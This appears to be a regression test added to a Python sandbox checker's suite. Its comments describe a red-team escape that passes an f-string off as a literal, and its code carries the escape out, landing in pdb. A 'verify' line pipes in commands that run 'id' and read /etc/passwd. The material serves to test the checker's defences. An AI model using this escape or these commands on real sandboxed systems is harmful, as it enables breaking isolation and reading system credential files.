@@ -1,0 +1,47 @@
+# expect: reject store
+# line: 29
+# why: the red team's round 26g ok_02 (its header below): text with a field is no plain literal (a lone field is what __format__ returned, any str subclass with the program's operators), and an operator method bound in a class body by any form (a lambda, a def's name) makes operators and comparisons may-be-functions; a base the checker cannot name is in doubt
+# goal: FULL ESCAPE: runs id and reads /etc/passwd (pdb on stdin) through the sys.argv lever.
+# mechanism: as ok_01, appending "sys.breakpointhook": unittest.main(exit=False) resolves it from __main__.sys and calls it -> pdb on stdin.
+# rule slipped: store, as ok_01 (plain_expr takes the f-string for a literal).
+# family O: "an f-string is text": plain_expr (stores.c) answers every `string` node "plain" (a literal: no
+#   function, no data a method could change) without asking whether it holds an interpolation, and maybe_function
+#   returns "no function" for any plain_expr BEFORE its operator test (program_operators) -- so a unary, binary or
+#   comparison operator over an f-string is "plain" too. At run time f"{x}" with ONE field and no literal text is
+#   FORMAT_VALUE alone (no BUILD_STRING): it evaluates to whatever x.__format__ returned, and format() accepts any
+#   str SUBCLASS instance. __format__ is on chain_value_dunder's fixed-type list ("returns str"), so K hands out
+#   nothing either. The str subclass S then answers the operator (-s, "a"+s via __radd__ which a subclass wins,
+#   s < "b") with run, a def the checker saw escape only as a return value of a dunder nobody is thought to call.
+# principle: text with an interpolation is not a literal: plain_expr, constant tests and maybe_function must use
+#   no_interpolation (already written, stores.c:11625, and used by immutable_expr) -- an f-string is "a str or a
+#   str subclass a program __format__/__str__/__repr__ made", i.e. judged like a call of the program; and more
+#   generally a dunder whose result CPython checks only by isinstance (__format__, __str__, __repr__, __index__,
+#   __int__ via subclass, __bytes__, __fspath__, __length_hint__...) returns a SUBCLASS the program wrote, whose
+#   own dunders are program code: "fixed type" must mean "exact builtin type", not "instance of".
+# verify: printf '!import os; os.system("id")\n!print(open("/etc/passwd").read()[:120])\nc\n' | python3 THIS -> uid=0(root)... and root:x:0:0:... printed from pdb.
+import contextlib
+import logging
+import sys
+import unittest
+
+
+def run(x, *a):
+    x.append("sys.breakpointhook")
+    return 0
+
+
+class S(str):
+    def __neg__(self):
+        return run
+
+
+class K:
+    def __format__(self, spec):
+        return S("s")
+
+
+es = contextlib.ExitStack()
+es.callback(-f"{K()}", sys.argv)
+es.close()
+print(sys.argv)
+unittest.main(exit=False)
